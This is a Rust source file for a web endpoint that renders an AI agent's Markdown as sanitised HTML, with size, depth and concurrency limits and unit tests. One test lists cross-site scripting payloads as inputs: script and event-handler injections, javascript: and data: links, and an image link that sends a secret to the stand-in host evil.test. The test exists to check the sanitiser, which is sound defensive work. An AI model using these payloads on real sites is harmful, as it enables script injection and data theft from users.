//! Turns Markdown into HTML that a page may show: what an agent says never becomes markup of its own making.
//!
//! Two walls. The writer takes Markdown alone: raw HTML in it is shown as the text that it is, and pictures become links, for
//! a picture's address would be fetched without a click and could carry out what was said. Then a list of what is allowed
//! cleans what was written.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::Arc;

use actix_web::{HttpResponse, web};
use ammonia::Builder;
use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};
use serde::Deserialize;
use sessile_actors::infra::CpuPool;
use tokio::runtime::Handle;
use tokio::sync::Semaphore;
use tracing::error;

use super::{Caller, Problem, RETRY_AFTER};

/// Largest body of a request. Beyond: 413, and the page shows the text as it is.
pub(super) const BODY_BYTES: usize = 512 * 1024;

/// Texts of one request. Beyond: 400.
const TEXTS_MAX: usize = 256;

/// Requests that are rendered at once. Beyond: they wait, and leave the other threads to whoever needs them.
const RENDERERS: usize = 2;

/// Requests that are rendered or wait for it. Beyond: 503, and the page shows the texts as they are. Without bounds, 150 of the
/// largest took 3.5 GB, and a run that took 20 ms beside none took 20 s beside them (unoptimised, measured 2026-11-20).
const WAITING_MAX: usize = 32;

/// How deep lists and quotations are shown in each other. Beyond: their words stand in the deepest one. The cleaner's time
/// grows with the square of the depth: a line of 20,000 `>` took it three seconds (measured 2026-11-20).
const DEPTH_MAX: usize = 32;

/// Bytes of words, and of an address, that the cleaner writes in one piece. Beyond: the words are cut into pieces, and there is
/// no link. For each `&` it looks through all that is left of a piece: 100 KB of `&` in one took it a minute
/// (html5ever 0.40, unoptimised, measured 2026-11-20).
const PIECE_BYTES: usize = 4096;

/// What the cleaner leaves out, and where it ends a piece.
const CUT: &str = "<!---->";

/// What a link may lead to.
const SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// What may stand in what is shown: what the writer makes of the Markdown that is read here.
const TAGS: [&str; 24] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Texts to be shown.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Texts {
    texts: Vec<String>,
}

/// Renders few texts at once, and lets few wait.
pub(super) struct Renderers {
    /// Not that of the tools, for whose turn a session waits.
    pool: CpuPool,
    room: Arc<Semaphore>,
}

impl Renderers {
    /// Made where the routes are.
    pub(super) fn new() -> Self {
        Self::with_room(WAITING_MAX)
    }

    fn with_room(room: usize) -> Self {
        Self {
            pool: CpuPool::new(Handle::current(), RENDERERS),
            room: Arc::new(Semaphore::new(room)),
        }
    }

    /// Does the work off the worker: the largest takes longer than a handshake should wait.
    async fn run<T: Send + 'static>(&self, work: impl FnOnce() -> T + Send + 'static) -> Result<T, Problem> {
        let Ok(place) = Arc::clone(&self.room).try_acquire_owned() else {
            return Err(Problem::unavailable(
                "too many texts are being rendered; try again",
                RETRY_AFTER,
            ));
        };
        // The place is held until the work is done, also where nobody waits for it any more.
        let done = self.pool.run(async move {
            let _held = place;
            work()
        });
        done.await.map_err(|fault| {
            error!(%fault, "Markdown could not be rendered");
            Problem::internal()
        })
    }
}

/// `POST /v1/markdown {texts}`: `{html}`, one for each, in their order.
pub(super) async fn render(
    _: Caller,
    renderers: web::Data<Renderers>,
    body: web::Json<Texts>,
) -> Result<HttpResponse, Problem> {
    let Texts { texts } = body.into_inner();
    if texts.len() > TEXTS_MAX {
        return Err(Problem::bad_request(format!("send at most {TEXTS_MAX} texts at once")));
    }
    let html = renderers.run(move || texts.iter().map(|text| to_html(text)).collect::<Vec<_>>());
    Ok(HttpResponse::Ok().json(serde_json::json!({ "html": html.await? })))
}

/// Writes a text as HTML.
fn to_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut written = String::with_capacity(markdown.len() * 3 / 2);
    let shallow = Parser::new_ext(markdown, options).scan(0, |depth, event| Some(within_depth(depth, event)));
    html::push_html(&mut written, shallow.flatten().flat_map(tamed));
    cleaner().clean(&in_pieces(&aligned(written))).to_string()
}

/// Cuts long words into pieces, before what the cleaner has to escape. In a text no `<` is left: each begins a tag.
fn in_pieces(written: &str) -> String {
    let mut pieces = String::with_capacity(written.len() + written.len() / PIECE_BYTES * CUT.len());
    let (mut done, mut begun, mut is_tag) = (0, 0, false);
    for (at, byte) in written.bytes().enumerate() {
        match byte {
            b'<' => is_tag = true,
            b'>' => (is_tag, begun) = (false, at),
            // The first byte of a reference, or of a letter from U+0080 to U+00BF: nothing is cut in two.
            b'&' | 0xC2 if !is_tag && at - begun >= PIECE_BYTES => {
                pieces.push_str(&written[done..at]);
                pieces.push_str(CUT);
                (done, begun) = (at, at);
            }
            _ => {}
        }
    }
    pieces.push_str(&written[done..]);
    pieces
}

/// Says how a column stands by an attribute: the page's policy lets no style stand in its markup. In a text no `<` is left.
fn aligned(mut written: String) -> String {
    for (cell, side) in [("td", "right"), ("th", "right"), ("td", "center"), ("th", "center")] {
        let styled = format!("<{cell} style=\"text-align: {side}\">");
        if written.contains(&styled) {
            written = written.replace(&styled, &format!("<{cell} align=\"{side}\">"));
        }
    }
    written
}

/// Leaves out what begins, and ends, too deep.
fn within_depth<'a>(depth: &mut usize, event: Event<'a>) -> Option<Event<'a>> {
    match event {
        Event::Start(_) => {
            *depth += 1;
            (*depth <= DEPTH_MAX).then_some(event)
        }
        Event::End(_) => {
            *depth -= 1;
            (*depth < DEPTH_MAX).then_some(event)
        }
        _ => Some(event),
    }
}

/// One event of the parser without what has no place in an answer.
fn tamed(event: Event<'_>) -> impl Iterator<Item = Event<'_>> {
    let (first, second) = match event {
        Event::Html(text) | Event::InlineHtml(text) => (Event::Text(text), None),
        Event::Start(Tag::HtmlBlock) => (Event::Start(Tag::Paragraph), None),
        Event::End(TagEnd::HtmlBlock) => (Event::End(TagEnd::Paragraph), None),
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => (
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }),
            Some(Event::Text(CowStr::Borrowed("picture: "))),
        ),
        Event::End(TagEnd::Image) => (Event::End(TagEnd::Link), None),
        Event::Start(Tag::Heading {
            level,
            id,
            classes,
            attrs,
        }) => (
            Event::Start(Tag::Heading {
                level: below(level),
                id,
                classes,
                attrs,
            }),
            None,
        ),
        Event::End(TagEnd::Heading(level)) => (Event::End(TagEnd::Heading(below(level))), None),
        other => (other, None),
    };
    std::iter::once(first).chain(second)
}

/// The page has two levels of headings of its own.
const fn below(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

/// The list of what is allowed.
fn cleaner() -> Builder<'static> {
    let mut cleaner = Builder::empty();
    cleaner
        .tags(HashSet::from(TAGS))
        .url_schemes(HashSet::from(SCHEMES))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .add_tag_attributes("a", ["href", "title"])
        .set_tag_attribute_value("a", "target", "_blank")
        .add_tag_attributes("code", ["class"])
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .set_tag_attribute_value("input", "disabled", "")
        .add_tag_attributes("ol", ["start"])
        .add_tag_attributes("td", ["align"])
        .add_tag_attributes("th", ["align"])
        .attribute_filter(|tag, attribute, value| match (tag, attribute) {
            ("a", _) if value.len() > PIECE_BYTES => None,
            ("code", "class") => is_language(value).then_some(Cow::Borrowed(value)),
            // The box of a task list, and no other field.
            ("input", "type") => (value == "checkbox").then_some(Cow::Borrowed(value)),
            _ => Some(Cow::Borrowed(value)),
        });
    cleaner
}

/// A code block names its language, and no other class.
fn is_language(class: &str) -> bool {
    class
        .strip_prefix("language-")
        .is_some_and(|name| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || "+-_#.".contains(c)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_becomes_what_it_means() {
        let cases = [
            ("a **b** `c`", "<p>a <strong>b</strong> <code>c</code></p>\n"),
            ("# top\n\n#### low", "<h3>top</h3>\n<h6>low</h6>\n"),
            (
                "```rust\nlet a = 1 < 2;\n```",
                "<pre><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>\n",
            ),
            ("3. c\n4. d", "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n"),
            (
                "[s](https://example.org \"t\")",
                "<p><a href=\"https://example.org\" title=\"t\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">s</a></p>\n",
            ),
        ];
        for (markdown, html) in cases {
            assert_eq!(to_html(markdown), html, "{markdown}");
        }
        let table = to_html("|a|b|\n|-|-:|\n|1|2|");
        assert!(
            table.contains("<th>a</th>") && table.contains("<td align=\"right\">2</td>"),
            "{table}"
        );
        let tasks = to_html("- [x] done");
        assert!(
            tasks.contains("type=\"checkbox\"") && tasks.contains("disabled"),
            "{tasks}"
        );
    }

    #[test]
    fn nothing_of_an_answer_acts_by_itself() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "a <b onclick=\"x()\">b</b>",
            "<div><style>*{display:none}</style></div>",
            "![leak](https://evil.test/?secret=1)",
            "![leak](https://evil.test/?secret=1 \"onerror=alert(1)\")",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\nscript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:x)",
            "[x](//evil.test/a)",
            "[x](/v1/threads)",
            "<javascript:alert(1)>",
            "<iframe src=https://evil.test></iframe>",
            "<form action=https://evil.test><input name=password></form>",
            "```a\" onmouseover=\"alert(1)\nb\n```",
            "```js evil other-class\nb\n```",
            "<svg><animate onbegin=alert(1)></svg>",
            "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "| <script> |\n|-|\n| <img src=x onerror=alert(1)> |",
        ];
        for attack in attacks {
            let html = to_html(attack);
            let tags: Vec<_> = html
                .split('<')
                .skip(1)
                .map(|tag| tag.split('>').next().unwrap())
                .collect();
            for tag in tags {
                let name = tag.trim_start_matches('/').split(' ').next().unwrap();
                assert!(TAGS.contains(&name), "{attack}: {html}");
                assert!(!tag.contains(" on") && !tag.contains(" src"), "{attack}: {html}");
                if let Some(href) = tag.split("href=\"").nth(1) {
                    let is_known = SCHEMES.iter().any(|scheme| href.starts_with(&format!("{scheme}:")));
                    assert!(is_known, "{attack}: {html}");
                }
            }
        }
        let raw = to_html("<script>alert(1)</script>");
        assert!(
            raw.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "shown as text: {raw}"
        );
        let picture = to_html("![alt](https://example.org/p.png)");
        assert!(
            picture.contains("href=\"https://example.org/p.png\"") && picture.contains("picture: alt"),
            "{picture}"
        );
    }

    #[test]
    fn what_is_escaped_is_written_in_pieces_and_stays_what_it_is() {
        for unit in ["&", "& ", "\u{a3}", "&amp;\u{a0}", "`&`"] {
            // More than one piece of each: the shortest has two bytes.
            let count = 2_500;
            for markdown in [unit.repeat(count), format!("```\n{}\n```", unit.repeat(count))] {
                let mut written = String::new();
                html::push_html(&mut written, Parser::new(&markdown));
                let cut = in_pieces(&written);
                assert_eq!(cut.replace(CUT, ""), written);
                let longest = cut.split(['<', '>']).map(str::len).max();
                assert!(longest <= Some(PIECE_BYTES + unit.len() * 5), "{unit}: {longest:?}");
                let (cleaned, whole) = (cleaner().clean(&cut), cleaner().clean(&written));
                assert_eq!(cleaned.to_string(), whole.to_string(), "{unit}");
            }
        }
        let address = format!("[x](https://example.org/{})", "?a&b".repeat(PIECE_BYTES));
        assert!(!to_html(&address).contains("href"));
    }

    #[actix_rt::test]
    async fn who_finds_no_room_is_told_so_and_the_room_comes_back() {
        let renderers = Renderers::with_room(1);
        let (done, end) = std::sync::mpsc::channel::<()>();
        let mut first = Box::pin(renderers.run(move || end.recv().is_err()));
        // It has begun: it holds its place.
        assert!(futures_util::poll!(first.as_mut()).is_pending());
        let refused = renderers.run(|| ()).await.unwrap_err();
        assert_eq!(refused.status().as_u16(), 503);
        drop(done);
        assert!(first.await.unwrap());
        assert!(renderers.run(|| ()).await.is_ok());
    }

    #[test]
    fn nesting_ends_at_its_bound_and_no_word_is_lost() {
        for unit in [">", "1. ", "> - "] {
            let html = to_html(&format!("{}word", unit.repeat(20_000)));
            let opened = html.matches('<').count() - html.matches("</").count();
            assert!(opened <= DEPTH_MAX, "{unit}: {opened} deep");
            assert!(html.contains("word"), "{unit}");
        }
        let within = to_html(&format!("{}word", ">".repeat(20)));
        assert_eq!(within.matches("<blockquote>").count(), 20);
    }
}
